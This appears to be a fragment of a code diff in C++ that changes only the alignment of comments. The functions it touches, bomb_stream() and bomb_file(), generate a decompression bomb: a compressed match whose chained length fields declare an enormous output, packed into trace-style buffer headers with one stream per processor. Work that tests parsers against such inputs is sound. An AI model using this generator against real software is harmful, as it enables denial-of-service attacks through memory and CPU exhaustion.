@@ -117,9 +117,9 @@ Bytes bomb_stream()
     const std::uint32_t length = kPayload - kRecord;
     Bytes match(10, 0);
     put16(match, 0, std::uint16_t(((kRecord - 1) << 3) | 7)); // distance 48, length 7 = more follows
-    match[2] = 0x0F;                                           // nibble 15: more follows
-    match[3] = 0xFF;                                           // 255: a 16-bit length follows
-    put16(match, 4, 0);                                        // 0: a 32-bit length follows
+    match[2] = 0x0F;                                          // nibble 15: more follows
+    match[3] = 0xFF;                                          // 255: a 16-bit length follows
+    put16(match, 4, 0);                                       // 0: a 32-bit length follows
     put32(match, 6, length - 3);
     out.insert(out.end(), match.begin(), match.end());
     return out;
@@ -138,10 +138,10 @@ Bytes bomb_file()
     for (int i = 0; i < kStreams; ++i) {
         Bytes b(0x48, 0);
         put32(b, 0x00, std::uint32_t(0x48 + packed.size())); // BufferSize as stored
-        put32(b, 0x04, 0x48 + kPayload);                      // SavedOffset
-        put32(b, 0x08, 0x48 + kPayload);                      // Offset: the decompressed size
-        put32(b, 0x18, 1);                                    // SequenceNumber
-        put16(b, 0x28, std::uint16_t(i));                     // ProcessorIndex: one stream each
+        put32(b, 0x04, 0x48 + kPayload);                     // SavedOffset
+        put32(b, 0x08, 0x48 + kPayload);                     // Offset: the decompressed size
+        put32(b, 0x18, 1);                                   // SequenceNumber
+        put16(b, 0x28, std::uint16_t(i));                    // ProcessorIndex: one stream each
         put16(b, 0x2A, 1);
         put32(b, 0x2C, 3);
         put32(b, 0x30, 0x48 + kPayload);
